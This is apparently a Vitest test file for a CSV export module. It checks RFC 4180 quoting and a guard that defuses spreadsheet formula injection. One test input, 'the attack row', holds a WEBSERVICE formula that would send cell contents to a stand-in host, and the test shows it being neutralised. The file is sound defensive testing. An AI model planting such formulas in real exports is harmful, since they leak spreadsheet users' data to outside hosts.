// The one CSV writer (#16 item 5): RFC 4180 quoting of every field, and the formula guard wherever a naive
// reader could start a cell.
import { describe, expect, it } from 'vitest';
import { csvField, csvText, defuseFormulas, startsLikeFormula } from '../../../../core/operations/csv';

describe('defuseFormulas', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('guards %j at the start of the field', (c) => {
    expect(defuseFormulas(`${c}1+1`)).toBe(`'${c}1+1`);
  });

  it.each([',', ';', '\n', '\r', '\r\n'])('guards a formula character after %j inside the field', (sep) => {
    expect(defuseFormulas(`Казань${sep}=1+1`)).toBe(`Казань${sep}'=1+1`);
  });

  it('looks past the spaces and double quotes a naive reader may strip', () => {
    expect(defuseFormulas('a, =1')).toBe("a, '=1");
    expect(defuseFormulas('a;" @SUM(A1)"')).toBe(`a;" '@SUM(A1)"`);
    expect(defuseFormulas('  -2')).toBe("  '-2");
  });

  it('leaves ordinary text alone: hyphens, dates, decimal commas, an already guarded cell', () => {
    for (const text of [
      'Санкт-Петербург',
      '2025-03-04 05:06',
      '1234,50',
      'Weight, g',
      'Курьер, до двери',
      "'=1",
      '',
    ]) {
      expect(defuseFormulas(text)).toBe(text);
    }
  });

  it('startsLikeFormula looks at the first character only', () => {
    expect(['=A1', '+7', '-1', '@x', '\tx', '\rx'].every(startsLikeFormula)).toBe(true);
    expect(['a=1', "'=1", ' =1', ''].some(startsLikeFormula)).toBe(false);
  });
});

describe('csvText', () => {
  it('quotes every field, doubles quotes, ends every record with CRLF', () => {
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(
      csvText(
        [
          ['a', ''],
          ['b;c', 'd\ne'],
        ],
        { separator: ';' },
      ),
    ).toBe('"a";""\r\n"b;c";"d\ne"\r\n');
    expect(csvText([['x']], { separator: ',', bom: true })).toBe('\uFEFF"x"\r\n');
  });

  it('the attack row: no cell of a comma split starts a formula', () => {
    const text = csvText([['Казань,=1+1,', '=WEBSERVICE("http://e.example/?"&A2)']], { separator: ';' });
    expect(text).toBe(`"Казань,'=1+1,";"'=WEBSERVICE(""http://e.example/?""&A2)"\r\n`);
    for (const cell of text.split(/[,;\r\n]/)) expect(cell.replace(/^[ "]+/, '')).not.toMatch(/^[=+\-@\t]/);
  });
});
